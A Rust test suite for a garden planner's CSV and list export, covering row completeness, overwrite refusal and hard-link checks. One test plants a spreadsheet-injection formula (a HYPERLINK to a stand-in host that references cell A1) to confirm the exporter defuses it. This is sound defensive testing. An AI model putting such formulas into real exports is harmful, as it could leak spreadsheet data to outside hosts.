//! Exports to files: whole, and never over anything unasked.

use super::bench::{Bench, SMALL, has_keys};

/// The cells of a table by the names of its columns.
fn cells(table: &str) -> Vec<std::collections::HashMap<String, String>> {
    let mut reader = csv::Reader::from_reader(table.as_bytes());
    reader.deserialize().map(Result::unwrap).collect()
}

#[test]
fn every_planting_has_a_row_with_its_ground_counts_and_days() {
    let bench = Bench::with_small();
    let said = bench.run("export plantings small.ron");
    assert_eq!((said.code, said.err.as_str()), (0, ""));
    let rows = cells(&said.out);
    let n_plantings = SMALL.matches("layout:").count();
    assert_eq!(rows.len(), n_plantings);
    let json = bench.json("export plantings small.ron", 0);
    assert_eq!(json.as_array().unwrap().len(), n_plantings);
    has_keys(
        &json[0],
        &["planting", "bed", "crop", "layout", "stations", "plants", "seeds", "clear_early", "n_breaches"],
    );
    for (row, told) in rows.iter().zip(json.as_array().unwrap()) {
        for (name, cell) in row {
            match &told[name] {
                serde_json::Value::Null => assert_eq!(cell, "", "{name}"),
                serde_json::Value::String(text) => assert_eq!(cell, text, "{name}"),
                number => assert!(
                    (cell.parse::<f64>().unwrap() - number.as_f64().unwrap()).abs() < 0.006,
                    "{name}: {cell} {number}"
                ),
            }
        }
        if !row["clear"].is_empty() {
            assert!(row["clear_early"] <= row["clear"] && row["clear"] <= row["clear_late"], "{row:?}");
        }
    }
}

#[test]
fn a_planting_of_an_unknown_crop_keeps_its_row() {
    let bench = Bench::new();
    bench.write("small.ron", SMALL.replacen("crop: \"leek\"", "crop: \"moonroot\"", 1).as_bytes());
    let rows = cells(&bench.run("export plantings small.ron").out);
    let row = rows.iter().find(|row| row["crop_id"] == "moonroot").unwrap();
    assert_eq!((row["crop"].as_str(), row["plants"].as_str(), row["clear"].as_str()), ("moonroot", "", ""));
    assert!(row["n_breaches"].parse::<u32>().unwrap() + row["n_cautions"].parse::<u32>().unwrap() > 0, "{row:?}");
}

#[test]
fn a_formula_in_a_garden_is_text_in_the_table() {
    let bench = Bench::new();
    let formula = "=HYPERLINK(\\\"http://example.org/\\\"&A1;\\\"more\\\")";
    let garden = SMALL
        .replace("variety: \"Blåvinter\"", &format!("variety: \"{formula}\", notes: \"-2+3\\tx\""))
        .replace("A1", "+A1");
    bench.write("small.ron", garden.as_bytes());
    let said = bench.run("export plantings small.ron");
    assert_eq!(said.code, 0, "{}", said.err);
    let rows = cells(&said.out);
    assert!(
        rows.iter().flat_map(std::collections::HashMap::values).all(|cell| !cell.starts_with(['=', '+', '@', '-']))
    );
    assert!(rows.iter().any(|row| row["variety"].starts_with("'=HYPERLINK(") && row["notes"] == "'-2+3␉x"));
    assert!(rows.iter().any(|row| row["bed"] == "'+A1"));
}

#[test]
fn an_export_is_written_over_nothing_unless_asked() {
    let bench = Bench::with_small();
    for (words, name) in [("list small.ron", "spring.txt"), ("export plantings small.ron", "plantings.csv")] {
        let out = format!("{words} --out {name}");
        let said = bench.run(&out);
        assert_eq!(said.code, 0, "{}", said.err);
        let printed = bench.run(words).out;
        assert_eq!(bench.read(name), printed);
        bench.write(name, b"kept by hand");
        let said = bench.run(&out);
        said.is_refused(&out);
        assert!(said.err.contains(name) && said.err.contains("--overwrite"), "{}", said.err);
        assert_eq!(bench.read(name), "kept by hand");
        assert_eq!(bench.run(&format!("{out} --overwrite")).code, 0);
        assert_eq!(bench.read(name), printed);
        for path in ["small.ron", "./small.ron"] {
            bench.run(&format!("{words} --out {path} --overwrite")).is_refused("the garden itself");
        }
        bench.run(&format!("{words} --overwrite")).is_refused("what is to be written over?");
        bench.run(&format!("{words} --out nowhere/{name}")).is_refused("no such folder");
    }
    assert_eq!(bench.read("small.ron"), SMALL);
    let answer = bench.json("export plantings small.ron --out again.csv", 0);
    assert_eq!(answer["file"], "again.csv");
    bench.run("export").is_refused("which table?");
    let left_over = std::fs::read_dir(bench.path(""))
        .unwrap()
        .filter(|entry| entry.as_ref().unwrap().file_name().to_string_lossy().starts_with(".unfinished"));
    assert_eq!(left_over.count(), 0);
}

#[cfg(unix)]
#[test]
fn over_a_file_with_other_names_nothing_is_exported() {
    let bench = Bench::with_small();
    bench.write("old.csv", b"of old\n");
    std::fs::hard_link(bench.path("old.csv"), bench.path("other.csv")).unwrap();
    for words in ["export plantings small.ron --out old.csv --overwrite", "list small.ron --out old.csv --overwrite"] {
        let said = bench.run(words);
        assert_eq!((said.code, said.out.as_str()), (2, ""), "{words}");
        assert!(said.err.contains("--out old.csv is one of several names of the same file"), "{}", said.err);
        assert_eq!([bench.read("old.csv"), bench.read("other.csv")], ["of old\n", "of old\n"]);
    }
}
